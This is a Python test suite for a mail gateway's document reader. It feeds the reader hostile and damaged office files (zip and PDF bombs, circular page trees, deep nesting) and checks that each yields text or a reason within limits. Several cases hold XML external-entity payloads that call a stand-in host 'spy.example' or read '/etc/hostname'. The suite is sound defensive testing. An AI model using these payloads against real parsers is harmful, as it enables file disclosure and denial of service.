"""Broken and hostile files yield fewer words and a reason; never an error, never much time."""

import random
import struct
import time
import tracemalloc

import pytest

from mailgw.documents import limits
from mailgw.documents.document import Document
from mailgw.documents.read import read_document
from tests.support.papers import XML as HEAD
from tests.support.papers import docx, locked_pdf, odt, packed, pdf, pdf_bomb, pdf_of, xlsx
from tickets.text.documents import DocumentText, Unread

GOOD = {
    "a.pdf": pdf("Angebot 4716", "Seite 2"),
    "a.docx": docx("Angebot", rows=[("a", "b")]),
    "a.xlsx": xlsx(("Angebot", 12.5)),
    "a.odt": odt("Angebot"),
}
W = 'xmlns:w="w"'


def said(name: str, content: bytes, seconds: float = 3.0) -> DocumentText:
    """Read a file, and see to it that the time was kept."""
    started = time.process_time()
    found = read_document(Document(name, "", content, seconds))
    assert time.process_time() - started < seconds + 2
    return found


def a_document(inside: str) -> bytes:
    """Pack something as the body of a Word document."""
    return packed({"word/document.xml": f"{HEAD}{inside}"})


def test_p04_a_bomb_of_spaces_is_not_unpacked() -> None:
    paragraphs = "<w:p><w:t>" + " " * 3_000_000 + "</w:t></w:p>"
    bomb = a_document(f"<w:document {W}><w:p><w:t>vorn</w:t></w:p>{paragraphs * 100}</w:document>")
    assert len(bomb) < 400_000
    tracemalloc.start()
    found = said("bombe.docx", bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (found.text, found.unread) == ("vorn", Unread.CUT)
    assert peak < 48 * 1024 * 1024


def test_p04_a_bomb_of_empty_elements_is_not_walked_to_its_end() -> None:
    bomb = a_document(f"<w:document {W}>" + "<w:p/>" * 20_000_000 + "</w:document>")
    assert said("bombe.docx", bomb, 1.0).unread in (Unread.CUT, Unread.COSTLY)


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE d SYSTEM "http://spy.example/x.dtd">',
        '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/hostname">]>',
        '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://spy.example/x"> %p;]>',
    ],
)
def test_p04_entities_are_never_made(dtd: str) -> None:
    bomb = a_document(f"{dtd}<w:document {W}><w:p><w:t>&a;</w:t></w:p></w:document>")
    assert said("bombe.docx", bomb).unread is Unread.BROKEN


def test_p04_elements_within_elements_end_somewhere() -> None:
    deep = a_document(f"<w:document {W}>" + "<w:p>" * 100_000)
    assert said("tief.docx", deep).unread is Unread.BROKEN


def test_p04_a_list_of_a_million_members_is_not_read() -> None:
    entry = b"PK\x01\x02" + bytes(42)
    count = 400_000
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 0xFFFF, 0xFFFF, count * 46, 0, 0)
    assert said("viele.xlsx", entry * count + end).unread is Unread.COSTLY


def test_p04_a_member_packed_in_another_way_is_not_opened() -> None:
    raw = bytearray(GOOD["a.docx"])
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = -1
        while (start := raw.find(mark, start + 1)) >= 0:
            raw[start + at : start + at + 2] = (14).to_bytes(2, "little")
    assert said("lzma.docx", bytes(raw)).unread is Unread.BROKEN


def test_p04_a_pdf_whose_pages_lead_in_a_circle_ends() -> None:
    circle = pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000000 /Parent 2 0 R >>",
        ]
    )
    assert said("kreis.pdf", circle).unread is not None


def test_p04_a_pdf_that_says_to_have_a_billion_pages_is_read_as_far_as_it_goes() -> None:
    raw = GOOD["a.pdf"].replace(b"/Count 2", b"/Count 999999999")
    assert said("endlos.pdf", raw).text.split() == ["Angebot", "4716", "Seite", "2"]


def test_p04_a_pdf_of_many_pages_is_read_from_its_beginning() -> None:
    many = pdf(*(f"Seite {number}" for number in range(limits.PAGES + 50)))
    found = said("dick.pdf", many)
    assert found.unread is Unread.CUT
    assert found.text.split()[-1] == str(limits.PAGES - 1)


def test_p04_a_pdf_that_unfolds_beyond_all_measure_is_not_unpacked() -> None:
    raw = pdf_bomb(b"BT /F1 9 Tf (ab) Tj ET\n" * 4_000_000)
    assert len(raw) < 400_000
    assert said("bombe.pdf", raw).unread is Unread.COSTLY


def test_what_is_locked_says_so() -> None:
    assert said("a.pdf", locked_pdf(GOOD["a.pdf"], reader="geheim")).unread is Unread.LOCKED
    assert said("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)).unread is Unread.LOCKED
    locked = bytearray(GOOD["a.docx"])
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := locked.find(mark, start + 1)) >= 0:
            locked[start + at] |= 1
    assert said("a.docx", bytes(locked)).unread is Unread.LOCKED


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.xlsx", "a.odt", "a.txt"])
@pytest.mark.parametrize("content", [b"\0" * 500, b"%PDF-1.7\n", b"PK\x03\x04", b"PK\x05\x06"])
def test_what_is_something_else_than_its_name_says_is_broken(name: str, content: bytes) -> None:
    found = said(name, content)
    assert found.unread in (Unread.BROKEN, Unread.EMPTY) or name == "a.txt"


@pytest.mark.parametrize("name", GOOD)
def test_a_damaged_file_yields_words_or_a_reason(name: str) -> None:
    dice = random.Random(4716)
    for _ in range(150):
        raw = bytearray(GOOD[name])
        for _ in range(dice.randint(1, 10)):
            raw[dice.randrange(len(raw))] = dice.randrange(256)
        cut = bytes(raw[: dice.randrange(len(raw))]) if dice.random() < 0.3 else bytes(raw)
        found = said(name, cut)
        assert found.text or found.unread is not None


def test_a_long_text_is_cut_and_that_is_told() -> None:
    found = said("lang.txt", b"Kastanie\n" * 100_000)
    assert found.unread is Unread.CUT
    assert limits.CHARACTERS - 10 < len(found.text) <= limits.CHARACTERS
